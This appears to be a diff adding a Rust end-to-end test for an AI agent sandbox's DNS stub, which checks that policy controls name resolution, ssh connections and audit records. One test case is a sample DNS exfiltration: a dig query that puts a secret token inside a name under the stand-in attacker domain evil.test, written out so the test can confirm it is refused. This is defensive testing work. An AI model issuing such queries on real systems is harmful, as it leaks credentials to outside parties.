@@ -1,0 +1,358 @@
+//! Root end-to-end tests of the agent's DNS stub: a real agent uid whose DNS the daemon's
+//! nftables table redirects into the stub, real clients (getent, dig, python, ssh), and the
+//! proxy's upstream resolver (dnsmasq, logging every query it gets) inside a network
+//! namespace this test creates. Without root they print why they skip; with CI=true a skip
+//! is a failure.
+//!
+//! Network safety: every agent command runs in a private mount namespace whose
+//! /etc/resolv.conf names an address inside the test's namespace, so even a query the
+//! redirect missed could not reach the machine's own resolver.
+#![cfg(target_os = "linux")]
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::SocketAddr;
+use std::os::unix::fs::PermissionsExt;
+use std::process::{Command, Output};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use agenshield_e2e::audit::{assert_matches_schema, lines};
+use agenshield_e2e::daemon::{Daemon, DaemonOptions};
+use agenshield_e2e::netlab::{root_or_skip, AgentUser, Internet};
+use serde_json::Value;
+
+const SECRET: &str = "ghps3cr3tvalue0123456789abcdef";
+
+const POLICY: &str = r#"
+version = 1
+default = "deny"
+
+[[rule]]
+id = "web"
+hosts = ["allowed.test", "other.test", "internal.test"]
+schemes = ["https"]
+action = "allow"
+
+[[rule]]
+id = "git-ssh"
+hosts = ["git.test"]
+ports = [22]
+schemes = ["tcp"]
+action = "allow"
+"#;
+
+struct Lab {
+    daemon: Daemon,
+    net: Internet,
+    user: AgentUser,
+    resolver: Resolver,
+    /// What the agent's ssh said to the netns server on git.test:22.
+    banners: Arc<Mutex<Vec<String>>>,
+    share: tempfile::TempDir,
+}
+
+/// dnsmasq inside the namespace: authoritative for the test names, forwarding nothing,
+/// logging every query it receives.
+struct Resolver {
+    child: std::process::Child,
+    log: std::path::PathBuf,
+}
+
+impl Resolver {
+    fn queries(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap_or_default()
+    }
+}
+
+impl Drop for Resolver {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+impl Lab {
+    fn new() -> Lab {
+        let tag = std::process::id() % 97 + 3;
+        let user = AgentUser::create(tag);
+        let net = Internet::create();
+        let share = tempfile::tempdir().expect("tempdir");
+        std::fs::set_permissions(share.path(), std::fs::Permissions::from_mode(0o755))
+            .expect("chmod");
+        // The agent's resolver: an address in the namespace where nothing answers DNS.
+        std::fs::write(
+            share.path().join("resolv.conf"),
+            format!("nameserver {}\noptions timeout:2 attempts:1\n", net.b4),
+        )
+        .expect("resolv.conf");
+
+        let log = share.path().join("dnsmasq.log");
+        net.assert_route(net.a4);
+        let child = Command::new("ip")
+            .args(["netns", "exec", &net.ns, "dnsmasq", "--keep-in-foreground"])
+            .args(["--no-resolv", "--no-hosts", "--no-poll", "--bind-interfaces"])
+            .arg(format!("--listen-address={}", net.a4))
+            .args(["--port=53", "--user=root", "--pid-file=", "--log-queries"])
+            .arg(format!("--log-facility={}", log.display()))
+            .arg(format!("--host-record=allowed.test,{}", net.a4))
+            .arg(format!("--host-record=other.test,{}", net.b4))
+            .arg(format!("--host-record=git.test,{}", net.a4))
+            .arg("--host-record=internal.test,192.168.77.7")
+            .arg("--txt-record=allowed.test,\"v=test\"")
+            .spawn()
+            .expect("dnsmasq (apt-get install dnsmasq-base)");
+        let resolver = Resolver { child, log };
+
+        let banners = Arc::new(Mutex::new(Vec::new()));
+        let ssh = net
+            .bind_tcp(&[SocketAddr::new(net.a4, 22)])
+            .pop()
+            .expect("listener");
+        let seen = banners.clone();
+        std::thread::spawn(move || {
+            for conn in ssh.incoming().flatten() {
+                let mut conn = conn;
+                let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
+                let _ = conn.write_all(b"SSH-2.0-AgenShieldTest\r\n");
+                let mut line = String::new();
+                let _ = BufReader::new(&conn).read_line(&mut line);
+                seen.lock().expect("lock").push(line.trim().to_string());
+            }
+        });
+
+        let daemon = Daemon::start(DaemonOptions {
+            policies: vec![("main.toml".into(), POLICY.into())],
+            nameservers: vec![format!("{}:53", net.a4)],
+            allow_private: vec![net.net4.clone(), net.net6.clone()],
+            secrets: vec![("GH_TOKEN".into(), SECRET.into())],
+            ipv6: true,
+            redirect_uid: Some(user.uid),
+            ..Default::default()
+        });
+        let lab = Lab {
+            daemon,
+            net,
+            user,
+            resolver,
+            banners,
+            share,
+        };
+        // dnsmasq is up once it answers the proxy (root is never redirected).
+        let deadline = Instant::now() + Duration::from_secs(10);
+        while !lab.resolver.queries().contains("started") && Instant::now() < deadline {
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        lab
+    }
+
+    /// Runs `script` as the agent, with /etc/resolv.conf replaced by ours.
+    fn agent(&self, script: &str) -> Output {
+        let resolv = self.share.path().join("resolv.conf");
+        let prefix = self.user.as_agent().join(" ");
+        let inner = format!(
+            "mount --bind {} /etc/resolv.conf && exec {prefix} bash -c {}",
+            resolv.display(),
+            shell_quote(script)
+        );
+        Command::new("unshare")
+            .args(["--mount", "--", "bash", "-c", &inner])
+            .output()
+            .expect("agent command")
+    }
+
+    fn dig(&self, args: &str) -> (String, String) {
+        let out = self.agent(&format!("dig +time=3 +tries=1 {args}"));
+        let text = String::from_utf8_lossy(&out.stdout).to_string();
+        let status = text
+            .split("status: ")
+            .nth(1)
+            .and_then(|s| s.split(',').next())
+            .unwrap_or("(no answer)")
+            .to_string();
+        (status, text)
+    }
+
+    fn dns_records(&self) -> Vec<Value> {
+        lines(&self.daemon.audit_path())
+            .into_iter()
+            .filter(|v| v["protocol"] == "dns")
+            .collect()
+    }
+}
+
+impl Drop for Lab {
+    fn drop(&mut self) {
+        self.daemon.kill9();
+        let _ = Command::new("nft")
+            .args(["delete", "table", "inet", "agenshield"])
+            .output();
+    }
+}
+
+fn shell_quote(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+fn text(out: &Output) -> String {
+    format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    )
+}
+
+#[test]
+fn the_agent_resolves_only_what_policy_allows_and_raw_tcp_is_decided_by_name() {
+    let Some(_serial) = root_or_skip("dns_stub") else {
+        return;
+    };
+    let lab = Lab::new();
+    let (a4, b4, b6) = (lab.net.a4, lab.net.b4, lab.net.b6);
+    for ip in [a4, b4, b6] {
+        lab.net.assert_route(ip);
+    }
+
+    // An allowed name resolves, through every client the agent's tools use.
+    let out = lab.agent("getent ahostsv4 allowed.test");
+    assert!(text(&out).contains(&a4.to_string()), "getent: {}", text(&out));
+    let out = lab.agent(
+        "python3 -c 'import socket; print(sorted({a[4][0] for a in socket.getaddrinfo(\"allowed.test\", 443)}))'",
+    );
+    assert!(text(&out).contains(&a4.to_string()), "python: {}", text(&out));
+    // UDP and TCP 53 to any address, v4 and v6, end at the stub (nothing serves DNS on
+    // the other.test host b4/b6, and the agent's own resolv.conf names b4).
+    for server in [format!("@{b4}"), format!("@{b6}"), format!("@{a4}")] {
+        for transport in ["+notcp", "+tcp"] {
+            let (status, out) = lab.dig(&format!("{server} {transport} allowed.test A"));
+            assert_eq!(status, "NOERROR", "{server} {transport}: {out}");
+            assert!(out.contains(&a4.to_string()), "{server} {transport}: {out}");
+        }
+    }
+    let (status, out) = lab.dig(&format!("@{b4} allowed.test TXT"));
+    assert_eq!(status, "NOERROR", "{out}");
+    assert!(out.contains("v=test"), "{out}");
+    assert!(
+        lab.resolver.queries().contains("query[A] allowed.test"),
+        "the proxy asked its resolver: {}",
+        lab.resolver.queries()
+    );
+
+    // An unlisted name: NXDOMAIN, answered locally; the resolver never hears of it.
+    let (status, out) = lab.dig(&format!("@{b4} unlisted.test A"));
+    assert_eq!(status, "NXDOMAIN", "{out}");
+    let out = lab.agent("getent hosts unlisted.test");
+    assert!(!out.status.success(), "{}", text(&out));
+    // A secret's value in a name (a classic exfiltration): refused, recorded, never sent.
+    let (status, out) = lab.dig(&format!("@{b4} {SECRET}.exfil.evil.test TXT"));
+    assert_eq!(status, "REFUSED", "{out}");
+    let (status, out) = lab.dig(&format!("@{b4} +tcp {SECRET}.allowed.test A"));
+    assert_eq!(status, "REFUSED", "{out}");
+    // Allowed by policy, but the address is one the proxy would never dial.
+    let (status, out) = lab.dig(&format!("@{b4} internal.test A"));
+    assert_eq!(status, "REFUSED", "{out}");
+    // A question type the stub does not answer.
+    let (status, out) = lab.dig(&format!("@{b4} allowed.test NS"));
+    assert_eq!(status, "REFUSED", "{out}");
+    let queries = lab.resolver.queries();
+    for leaked in ["unlisted.test", SECRET, "evil.test", "query[NS]"] {
+        assert!(
+            !queries.contains(leaked),
+            "the resolver saw {leaked}:\n{queries}"
+        );
+    }
+
+    // ssh to a name only a tcp rule allows: the agent resolves git.test through the stub,
+    // connects to its address, and the proxy decides the connection by the name.
+    let ssh = "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+               -o ConnectTimeout=5 -o LogLevel=ERROR git@git.test true; true";
+    let out = lab.agent(ssh);
+    let deadline = Instant::now() + Duration::from_secs(5);
+    while lab.banners.lock().expect("lock").is_empty() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let banners = lab.banners.lock().expect("lock").clone();
+    assert!(
+        banners.iter().any(|b| b.starts_with("SSH-2.0-OpenSSH")),
+        "ssh reached the server through the proxy: {banners:?} / {}",
+        text(&out)
+    );
+    // The same port on a name with no tcp rule is refused, and its record names the host.
+    let out = lab.agent(
+        "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+         -o ConnectTimeout=5 -o LogLevel=ERROR git@other.test true; true",
+    );
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(lab.banners.lock().expect("lock").len(), 1, "{}", text(&out));
+
+    // Records: what was decided, by whom, in the audit log's one shape.
+    let audit = lines(&lab.daemon.audit_path());
+    assert_matches_schema(&audit);
+    let tcp: Vec<&Value> = audit
+        .iter()
+        .filter(|v| v["protocol"] == "tcp" && v["port"] == 22 && v["kind"] == "connection")
+        .collect();
+    let by_host = |h: &str| tcp.iter().find(|v| v["host"] == h).copied();
+    let allowed = by_host("git.test").unwrap_or_else(|| panic!("git.test: {tcp:?}"));
+    assert_eq!(allowed["decision"], "allow", "{allowed}");
+    assert_eq!(allowed["rule"], "git-ssh", "{allowed}");
+    assert_eq!(allowed["dst"], format!("{a4}:22"), "{allowed}");
+    assert_eq!(allowed["agent_uid"], lab.user.uid, "{allowed}");
+    let refused = by_host("other.test").unwrap_or_else(|| panic!("other.test: {tcp:?}"));
+    assert_eq!(refused["decision"], "deny", "{refused}");
+
+    let dns = lab.dns_records();
+    let find = |host: &str, rcode: &str| {
+        dns.iter()
+            .find(|v| {
+                v["host"].as_str().is_some_and(|h| h.contains(host)) && v["dns"]["rcode"] == rcode
+            })
+            .unwrap_or_else(|| panic!("no {host} {rcode} record in {dns:#?}"))
+    };
+    let ok = find("allowed.test", "NOERROR");
+    assert_eq!(ok["decision"], "allow");
+    assert_eq!(ok["kind"], "query");
+    assert_eq!(ok["rule"], "web");
+    assert_eq!(ok["agent_uid"], lab.user.uid);
+    assert_eq!(ok["dns"]["answers"][0], a4.to_string());
+    let nx = find("unlisted.test", "NXDOMAIN");
+    assert_eq!(nx["decision"], "deny");
+    assert_eq!(nx["error_code"], "policy_denied");
+    let leak = find("exfil.evil.test", "REFUSED");
+    assert_eq!(leak["error_code"], "secret_leak");
+    let forbidden = find("internal.test", "REFUSED");
+    assert_eq!(forbidden["error_code"], "destination_forbidden");
+    let ns = dns
+        .iter()
+        .find(|v| v["dns"]["qtype"] == "NS")
+        .expect("NS record");
+    assert_eq!(ns["error_code"], "query_type_refused");
+    // An allowed name is recorded once per TTL, however often it is asked.
+    let allowed_a = dns
+        .iter()
+        .filter(|v| {
+            v["host"] == "allowed.test" && v["dns"]["qtype"] == "A" && v["agent_uid"] == lab.user.uid
+        })
+        .count();
+    assert_eq!(allowed_a, 1, "{dns:#?}");
+    // No secret value anywhere in what the daemon wrote.
+    let written = std::fs::read_to_string(lab.daemon.audit_path()).expect("audit");
+    assert!(!written.contains(SECRET));
+    assert!(!lab.daemon.logs().contains(SECRET));
+
+    // Metrics count every question, recorded or not.
+    let metrics = reqwest_metrics(lab.daemon.metrics);
+    assert!(
+        metrics.contains("agenshield_proxy_dns_queries_total{decision=\"deny\",rcode=\"NXDOMAIN\"}"),
+        "{metrics}"
+    );
+}
+
+/// `/metrics` over a plain loopback socket.
+fn reqwest_metrics(addr: SocketAddr) -> String {
+    let mut s = std::net::TcpStream::connect(addr).expect("metrics");
+    s.write_all(b"GET /metrics HTTP/1.1\r\nHost: m\r\nConnection: close\r\n\r\n")
+        .expect("write");
+    let mut out = String::new();
+    std::io::Read::read_to_string(&mut s, &mut out).expect("read");
+    out
+}
